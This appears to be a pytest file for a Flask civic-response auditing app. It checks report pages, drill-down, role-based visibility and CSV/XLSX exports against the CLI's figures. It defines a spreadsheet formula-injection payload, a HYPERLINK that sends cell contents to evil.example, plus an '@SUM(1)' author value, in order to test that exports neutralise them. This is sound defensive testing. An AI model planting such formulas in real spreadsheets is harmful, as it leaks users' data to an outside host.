"""The auditors' pages (考评) through Flask's test client, on SQLite and
PostgreSQL: the figures are the CLI's (`huisheng report …` run on the same
database), the drill-down, the CSV and XLSX exports, and who sees what."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from sqlalchemy import update

from huisheng.cli import main
from huisheng.flags.workcal import WorkCalendar
from huisheng.storage.models import Account, Flag, Post
from huisheng.reports.coverage import coverage
from tests.webkit import ADMIN, AUDITOR, COMMUNITY, NOW, STREET, TRANSPORT, WebKit, days

PAGES = ("coverage", "compliance", "overdue", "ranking", "health")
OCTOBER = {"from": "2026-10-01", "to": "2026-10-31"}
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def hours(n: float) -> timedelta:
    return timedelta(hours=n)


@pytest.fixture
def kit(db_url, tmp_path):
    kit = WebKit(db_url, tmp_path)
    kit.config = tmp_path / "huisheng.toml"
    n = NOW
    calendar = WorkCalendar()

    def replied(name, uid, unit, started, reply, **fields):
        kit.make_flag(name, uid, unit, text=f"请问{name}？", created=started, due=started + days(2), status="replied",
                      first_reply_at=reply, reply_seconds=(reply - started).total_seconds(),
                      reply_working_seconds=calendar.working_seconds(started, reply), **fields)

    # October: replies on time and late, in each unit; a dismissed one, an offline reply, a historical one
    replied("o1", "1002", "B03", n - days(30), n - days(30) + hours(3))
    replied("o2", "1002", "B03", n - days(29), n - days(20))
    replied("o3", "1004", "S00C01", n - days(28), n - days(28) + hours(20))
    replied("o4", "1003", "S00", n - days(27), n - days(27) + hours(1))
    replied("o5", "1004", "S00C01", n - days(26), n - days(26) + hours(2), replied_offline=True)
    kit.make_flag("o6", "1002", "B03", text="广告", created=n - days(25), due=n - days(23), status="dismissed",
                  dismissed_reason="spam")
    kit.make_flag("o7", "1004", "S00C01", text="老问题", created=n - days(24), due=n - days(22), historical=True)
    kit.make_flag("o8", "1001", "D", text="区里的问题没人管", created=n - days(31), due=n - days(29),
                  category="complaint")
    # November: a reply, and an overdue flag of the community whose text is a spreadsheet formula
    replied("n1", "1004", "S00C01", n - days(2), n - days(2) + hours(5))
    kit.make_flag("evil", "1004", "S00C01", text=HOSTILE, created=n - days(4), due=n - days(2), author="@SUM(1)")
    # 东城街道's account is failing; a thread under 东城第1社区 was not read in full
    kit.failing("1003", n - days(2), 3, "server_error", "timeline: HTTP 502")
    with kit.sessions.begin() as session:
        session.execute(update(Post).where(Post.id == kit.posts["1004"]).values(
            comments_incomplete_reason="short 3/120", comments_incomplete_since=n - days(2),
            comments_retry_at=n + hours(1), comments_retry_attempts=4))
    yield kit
    kit.close()


def cli(kit, *args: str, lang: str = "zh") -> str:
    result = CliRunner().invoke(main, ["--config", str(kit.config), "report", *args, "--now", NOW.isoformat(),
                                       "--lang", lang])
    assert result.exit_code == 0, result.output
    return result.stdout_bytes.decode("utf-8")  # as printed (``output`` turns CRLF into LF)


def get(client, path: str, **params) -> str:
    response = client.get(path, query_string=params)
    assert response.status_code == 200, (path, params, response.status_code)
    return response.get_data(as_text=True)


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


@pytest.mark.parametrize("by", ["level", "category", "account", "month", "district"])
def test_coverage_exports_what_the_cli_prints(kit, by):
    client = kit.client_for(AUDITOR)
    web = get(client, "/audit/coverage.csv", by=by, **OCTOBER)
    printed = cli(kit, "coverage", "--by", by, "--from", OCTOBER["from"], "--to", OCTOBER["to"], "--format", "csv")
    lines = web.split("\r\n")
    if by == "district":
        assert web == printed
    else:  # the page adds the total of its rows
        assert "\r\n".join(lines[:-2]) + "\r\n" == printed
        total = csv_rows(lines[-2])[0]
        assert "合计" in total
    # and the page shows the same figures
    page = get(client, "/audit/coverage", by=by, **OCTOBER)
    for row in csv_rows(printed)[1:]:
        assert all(f">{cell}<" in page for cell in row[3:8] if cell), row


def test_a_month_and_history_are_chosen_as_on_the_cli(kit):
    client = kit.client_for(AUDITOR)
    assert get(client, "/audit/coverage.csv", by="category", month="2026-10") == get(
        client, "/audit/coverage.csv", by="category", **OCTOBER)
    web = get(client, "/audit/coverage.csv", by="category", history="1", **OCTOBER)
    printed = cli(kit, "coverage", "--by", "category", "--from", OCTOBER["from"], "--to", OCTOBER["to"],
                  "--include-history", "--format", "csv")
    assert web.startswith(printed) and web != get(client, "/audit/coverage.csv", by="category", **OCTOBER)
    assert get(client, "/audit/compliance.csv", history="1") == cli(kit, "compliance", "--include-history",
                                                                     "--format", "csv")


def test_coverage_by_unit_drills_down_from_the_district_to_a_street_and_its_communities(kit):
    client = kit.client_for(AUDITOR)
    options = dict(start=NOW - days(40), end=NOW + days(1), calendar=WorkCalendar(), now=NOW)
    street, community = kit.unit_id("S00"), kit.unit_id("S00C01")
    with kit.sessions() as session:
        by_unit = {r.key: r for r in coverage(session, by="unit", **options)}
        street_tree = coverage(session, by="district", units={street, community}, **options)[0]
        district = coverage(session, by="district", **options)[0]
    top = csv_rows(get(client, "/audit/coverage.csv", by="unit", **{"from": "2026-09-26", "to": "2026-11-05"}))
    rows = {r[2]: r for r in top[1:]}
    # the district's own flags, 交通局, the street with its community, the total
    assert set(rows) == {"D", "B03", "S00", ""}
    assert rows["D"][3] == "示范区（本级）" and rows["S00"][3] == "东城街道（含下级）" and rows[""][3] == "合计"

    def figures(row):
        return [row[4], row[5], row[6], row[7], row[8], row[13]]

    def expected(r):
        return [str(r.flags), str(r.replied), f"{r.coverage * 100:.1f}%", str(r.on_time),
                f"{r.on_time_coverage * 100:.1f}%", str(r.overdue_open)]

    assert figures(rows["B03"]) == expected(by_unit["B03"]) and figures(rows["D"]) == expected(by_unit["D"])
    assert figures(rows["S00"]) == expected(street_tree)
    assert figures(rows[""]) == expected(district)
    times = (street_tree.frt_median_hours, street_tree.frt_p90_hours, street_tree.frt_median_working_hours,
             street_tree.frt_p90_working_hours)
    assert rows["S00"][9:13] == ["" if v is None else str(v) for v in times]
    # click the street: the street's own flags and its community's
    page = get(client, "/audit/coverage", **{"from": "2026-09-26", "to": "2026-11-05"})
    link = f"/audit/coverage?from=2026-09-26&amp;to=2026-11-05&amp;unit={street}"
    assert f'href="{link}"' in page and '<a href="' + link + '" class="drill">' in page  # the name and its bars
    inner = csv_rows(get(client, "/audit/coverage.csv", unit=street, **{"from": "2026-09-26", "to": "2026-11-05"}))
    rows = {r[2]: r for r in inner[1:]}
    assert set(rows) == {"S00", "S00C01", ""}
    assert rows["S00"][3] == "东城街道（本级）"
    assert figures(rows["S00"]) == expected(by_unit["S00"])
    assert figures(rows["S00C01"]) == expected(by_unit["S00C01"])
    assert figures(rows[""]) == expected(street_tree)
    html = get(client, "/audit/coverage", unit=street)
    assert "东城第1社区" in html and "交通局" not in html.split('<nav class="crumbs"')[1].split("</form>")[1]
    assert re.search(r'<nav class="crumbs".*示范区.*›.*<b>东城街道</b>', html, re.S)


def test_the_monthly_trend_is_a_line_and_the_units_are_bars(kit):
    client = kit.client_for(AUDITOR)
    trend = get(client, "/audit/coverage", by="month")
    chart = trend.split('<div class="card chart">')[1].split("</div>")[0]
    assert chart.startswith("<svg") and "<polyline" in chart and "<script" not in trend
    assert "2026-10" in chart and "2026-11" in chart  # twelve months by default, so October is in
    bars = get(client, "/audit/coverage", by="level", **OCTOBER)
    assert '<rect class="bar-cov"' in bars and "<polyline" not in bars


def test_ranking_compliance_and_overdue_are_the_clis(kit):
    client = kit.client_for(AUDITOR)
    assert get(client, "/audit/ranking.csv", month="2026-10", min_flags="1") == cli(
        kit, "ranking", "--month", "2026-10", "--min-flags", "1", "--format", "csv")
    assert get(client, "/audit/compliance.csv", at="2026-11-05") == cli(
        kit, "compliance", "--at", "2026-11-05", "--format", "csv")
    assert get(client, "/audit/overdue.csv") == cli(kit, "overdue", "--format", "csv")
    assert get(client, "/audit/ranking.csv", month="2026-10", min_flags="1", lang="en") == cli(
        kit, "ranking", "--month", "2026-10", "--min-flags", "1", "--format", "csv", lang="en")


def test_the_overdue_list_narrows_to_a_ladder_step(kit):
    with kit.sessions.begin() as session:
        session.get(Flag, kit.flag["o8"]).noticed_at = NOW - days(1)
    client = kit.client_for(AUDITOR)
    everything = csv_rows(get(client, "/audit/overdue.csv"))[1:]
    assert sorted(int(r[1]) for r in everything) == sorted(kit.flag[name] for name in ("street", "o8", "evil"))
    noticed = csv_rows(get(client, "/audit/overdue.csv", step="noticed"))[1:]
    assert [(int(r[1]), r[-2]) for r in noticed] == [(kit.flag["o8"], "已通报")]
    assert "区里的问题没人管" in get(client, "/audit/overdue", step="noticed")


def test_compliance_shows_accounts_that_could_not_be_read_unjudged(kit):
    with kit.sessions.begin() as session:
        session.execute(update(Account).where(Account.id == kit.account["1001"]).values(first_success_at=None,
                                                                                        last_error_kind="blocked"))
    client = kit.client_for(AUDITOR)
    page = get(client, "/audit/compliance", at="2026-11-05")
    assert "从未读取成功（被平台风控拦截）" in page
    assert "平台服务器错误" in page  # 东城街道's account failing at the check
    health = get(client, "/audit/health")
    assert "东城街道" in health and "平台服务器错误" in health and "timeline: HTTP 502" in health
    assert "只读到 3 条，计数为 120 条" in health and "从未读取成功" in health
    english = get(client, "/audit/health", lang="en")
    assert "platform server error" in english and "only 3 read; the counter says 120" in english


def test_exports_parse_back_with_hostile_cells_neutralised(kit):
    client = kit.client_for(AUDITOR)
    text = get(client, "/audit/overdue.csv")
    table = csv_rows(text)
    assert table[0][:3] == ["统计时间", "编号", "单位"]
    evil = next(r for r in table if r[1] == str(kit.flag["evil"]))
    assert evil[-1] == "'" + HOSTILE and evil[5] == "'@SUM(1)"
    response = client.get("/audit/overdue.xlsx")
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("application/vnd.openxmlformats")
    assert 'filename="huisheng-overdue-2026-11-05.xlsx"' in response.headers["Content-Disposition"]
    book = load_workbook(io.BytesIO(response.data))
    sheet = book[book.sheetnames[0]]
    cells = list(sheet.iter_rows())
    assert [c.value for c in cells[0]] == table[0]
    assert not any(c.data_type == "f" for row in cells for c in row)
    row = next(r for r in cells if r[1].value == kit.flag["evil"])
    assert row[-1].value == "'" + HOSTILE and row[-1].data_type == "s" and row[5].value == "'@SUM(1)"
    # numbers stay numbers; a rate is a fraction shown as the CSV's percentage
    cov = load_workbook(io.BytesIO(client.get("/audit/coverage.xlsx", query_string=OCTOBER).data)).active
    head = [c.value for c in next(cov.iter_rows())]
    printed = csv_rows(get(client, "/audit/coverage.csv", **OCTOBER))
    assert head == printed[0]
    first = [c for c in list(cov.iter_rows())[1]]
    rate = first[head.index("回复率")]
    assert rate.number_format == "0.0%" and f"{rate.value * 100:.1f}%" == printed[1][head.index("回复率")]
    assert first[head.index("需回复")].value == int(printed[1][head.index("需回复")])
    # compliance: two tables in the CSV, two sheets in the workbook
    book = load_workbook(io.BytesIO(client.get("/audit/compliance.xlsx").data))
    assert book.sheetnames == ["账号", "层级汇总"]
    english = load_workbook(io.BytesIO(client.get("/audit/compliance.xlsx?lang=en").data))
    assert english.sheetnames == ["accounts", "levels"]


@pytest.mark.parametrize("page", PAGES)
def test_a_community_administrator_sees_only_their_units_figures(kit, page):
    client = kit.client_for(COMMUNITY)
    others = [kit.unit_id(code) for code in ("D", "B03", "S00")]
    for other in others + ["abc", "99999999", "-1"]:
        for path in (f"/audit/{page}", f"/audit/{page}.csv", f"/audit/{page}.xlsx"):
            assert client.get(path, query_string={"unit": other, "by": "unit"}).status_code == 404, (path, other)
    own = kit.unit_id("S00C01")
    for params in ({}, {"unit": own}, {"by": "account"}, {"by": "level"}, {"month": "2026-10", "min_flags": "1"}):
        html = get(client, f"/audit/{page}", **params)
        data = get(client, f"/audit/{page}.csv", **params)
        for text in (html, data):
            assert "交通局" not in text and "示范区交通局" not in text and "公交 302 路" not in text
            assert "B03" not in text and "timeline: HTTP 502" not in text
    # their own figures are there
    assert "东城第1社区" in get(client, "/audit/coverage", **OCTOBER)
    assert str(kit.flag["evil"]) in get(client, "/audit/overdue.csv")
    assert "只读到 3 条" in get(client, "/audit/health")


def test_a_street_administrator_drills_into_their_community_only(kit):
    client = kit.client_for(STREET)
    rows = {r[2]: r for r in csv_rows(get(client, "/audit/coverage.csv", **OCTOBER))[1:]}
    assert set(rows) == {"S00", "S00C01", ""}
    assert client.get("/audit/coverage", query_string={"unit": kit.unit_id("S00C01")}).status_code == 200
    assert client.get("/audit/coverage", query_string={"unit": kit.unit_id("B03")}).status_code == 404
    transport = kit.client_for(TRANSPORT)
    overdue = get(transport, "/audit/overdue.csv")
    assert str(kit.flag["evil"]) not in overdue and "东城" not in overdue


@pytest.mark.parametrize("email", [AUDITOR, ADMIN])
def test_audit_pages_hold_no_action_form(kit, email):
    client = kit.client_for(email)
    for page in PAGES:
        html = get(client, f"/audit/{page}")
        # the one POST form is signing out
        assert html.count('method="post"') == 1 and 'action="/signout"' in html, page
        assert "<script" not in html


def test_the_audit_index_and_nav(kit):
    client = kit.client_for(AUDITOR)
    response = client.get("/audit/")
    assert response.status_code == 302 and response.headers["Location"].endswith("/audit/coverage")
    assert 'href="/audit/coverage"' in get(client, "/")  # the nav shows the audit pages


def test_a_bad_period_is_said_on_the_page_and_refused_in_an_export(kit):
    client = kit.client_for(AUDITOR)
    page = get(client, "/audit/coverage", **{"from": "2026-13-01"})
    assert "应为 YYYY-MM-DD" in page and 'class="flash error"' in page
    assert client.get("/audit/coverage.csv", query_string={"from": "2026-13-01"}).status_code == 400
    assert client.get("/audit/ranking.xlsx", query_string={"month": "26-10"}).status_code == 400
    assert client.get("/audit/coverage.csv", query_string={"from": "2026-11-05", "to": "2026-11-01"}).status_code == 400


def test_stray_parameters_change_nothing(kit):
    client = kit.client_for(AUDITOR)
    for page in PAGES:
        html = get(client, f"/audit/{page}", export="x", endpoint="y", _external="1", _scheme="javascript",
                   page="999999999", min_flags="-3", level="'", by="<b>")
        assert 'href="javascript' not in html and "<b>" not in html
        assert f'href="/audit/{page}.csv' in html


def test_pages_need_a_session(kit):
    client = kit.app.test_client()
    for page in PAGES:
        for path in (f"/audit/{page}", f"/audit/{page}.csv"):
            response = client.get(path)
            assert response.status_code == 302 and response.headers["Location"].startswith("/signin")


def test_english_headers_and_names(kit):
    client = kit.client_for(AUDITOR)
    page = get(client, "/audit/coverage", lang="en", **OCTOBER)
    assert "on-time coverage" in page and "Export Excel" in page
    rows = csv_rows(get(client, "/audit/coverage.csv", lang="en", **OCTOBER))
    assert rows[0][:4] == ["period from", "period to", "key", "name"] and rows[-1][3] == "Total"
    # a level is named in English too, on the page as by the CLI
    web = get(client, "/audit/coverage.csv", by="level", **OCTOBER)
    printed = cli(kit, "coverage", "--by", "level", "--from", OCTOBER["from"], "--to", OCTOBER["to"], "--format",
                  "csv", lang="en")
    assert web.startswith(printed) and [r[2] for r in csv_rows(printed)[1:]] == ["district", "department", "street",
                                                                                "community"]


@pytest.mark.parametrize("page", PAGES)
def test_every_table_of_every_page_exports_to_csv_and_xlsx(kit, page):
    client = kit.client_for(AUDITOR)
    html = get(client, f"/audit/{page}")
    assert f'href="/audit/{page}.csv"' in html and f'href="/audit/{page}.xlsx"' in html
    rows = csv_rows(get(client, f"/audit/{page}.csv"))
    book = load_workbook(io.BytesIO(client.get(f"/audit/{page}.xlsx").data))
    # a sheet (and a header in the CSV) for each table on the page
    assert len(book.sheetnames) == html.count("<table")
    for sheet in book.worksheets:
        values = [[("" if c.value is None else c.value) for c in row] for row in sheet.iter_rows()]
        assert values and [str(v) for v in values[0]] in rows
